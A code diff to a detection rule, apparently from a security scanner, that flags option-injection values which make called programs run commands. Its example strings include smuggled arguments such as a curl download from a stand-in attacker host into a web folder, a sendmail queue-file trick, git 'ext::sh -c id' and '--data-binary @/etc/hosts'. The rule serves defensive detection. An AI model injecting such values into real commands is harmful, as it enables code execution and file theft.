@@ -1,4 +1,3 @@
-import { charClass } from '../../text/char-class.ts';
 import { followsValue } from '../../text/place.ts';
 import type { Match, ValueRule } from '../rule.ts';
 import type { Subject } from '../subject.ts';
@@ -12,7 +11,6 @@ export const optionInjection: ValueRule = {
   score: 85,
   message: 'is an option that makes the called program run a command',
   trigger: {
-    classes: charClass.dash,
     literals: [
       [
         'proxycommand',
@@ -32,6 +30,17 @@ export const optionInjection: ValueRule = {
         'ext::',
         'gpu-launcher',
         'renderer-cmd-prefix',
+        '-o /',
+        '-o/',
+        '-oqueue',
+        '-x/',
+        ' -o',
+        ' @/',
+        '=@/',
+        '-t /etc',
+        '-exec',
+        'alias.',
+        'hooks.',
       ],
     ],
   },
@@ -44,12 +53,21 @@ export const optionInjection: ValueRule = {
     '--upload-pack=touch /tmp/x',
     '-o PermitLocalCommand=yes -o LocalCommand=id',
     '--gpu-launcher=calc.exe',
+    '-o /srv/www/a.php http://evil.example.com/a.txt',
+    '-X/srv/www/a.php -OQueueDirectory=/tmp',
+    'ext::sh -c id',
+    '--data-binary @/etc/hosts',
+    '-exec sh x.sh {} ;',
   ],
   lookalikes: [
     'How do I use the ProxyCommand option of ssh?',
     'ssh-config: ProxyCommand none',
     'tar has --checkpoint-action, see the manual',
     'set core.pager to less -R',
+    '-o output.txt is the last option',
+    'see ext::property in the manual',
+    '-exec is an option of find',
+    'curl -o /tmp/a.tgz https://example.com/a.tgz downloads the archive into the folder',
   ],
 };
 
@@ -58,6 +76,12 @@ const placeholders: readonly number[] = [38, 60, 91];
 
 function judge(subject: Subject): Match | undefined {
   const text = subject.text;
+  for (const form of forms) {
+    const match = form.exec(text);
+    if (match === null) continue;
+    const start = match.index + (match[1] ?? '').length;
+    if (followsValue(text, start)) return { start, end: match.index + match[0].length };
+  }
   const match = option.exec(text);
   if (match === null) return undefined;
   const start = match.index + (match[1] ?? '').length;
@@ -67,6 +91,19 @@ function judge(subject: Subject): Match | undefined {
   if (!hasValue || !followsValue(text, start)) return undefined;
   return { start, end: Math.min(text.length, end + 40) };
 }
+
+/** Options that are an attack with the value they have here. */
+const forms: readonly RegExp[] = [
+  /(^\s{0,4}|["'] )-[oO] ?\/[\w./-]{2,120}\s{1,4}(?:https?|ftp):\/\/\S{4,80}/,
+  /^(\s{0,4})(?:https?|ftp):\/\/\S{4,200}\s{1,4}-[oO] ?\/[\w./-]{2,120}/,
+  /(^|\s)-O(?:QueueDirectory|ProgramMailer|[A-Z][A-Za-z]{4,24})=\/\w{1,40}/,
+  /(^|\s)-X ?\/[\w./-]{2,120}\.(?:php\d?|phtml|jsp|aspx?|cgi)\b/,
+  /(^|\s)(?:-d|-T|--data(?:-binary|-ascii|-raw)?|--upload-file|-F \w{1,20}=)[ =]?@?\/(?:etc|proc|root|home|var)\/[\w./-]{2,80}/,
+  /(^|[\s'"=])ext::(?:sh|bash|\/[a-z/]{2,24}|nc|ssh|python3?|perl|cmd|curl|wget|id|touch) [-%\w/'"]{1,40}/,
+  /(^|\s)-exec(?:dir)? {1,3}[\w/]{2,24} [^;\n]{0,60}(?:;|\{\})/,
+  /(^|\s)-(?:c|-config)[ =]?(?:alias|hooks)\.[\w.-]{1,30}=!?[\w/'"]{2,30}/,
+  /(^|\s)-o ?['"]?\|[ \w/]{2,40}/,
+];
 
 /** What stands before it, and the option up to its equals sign. */
 const option =
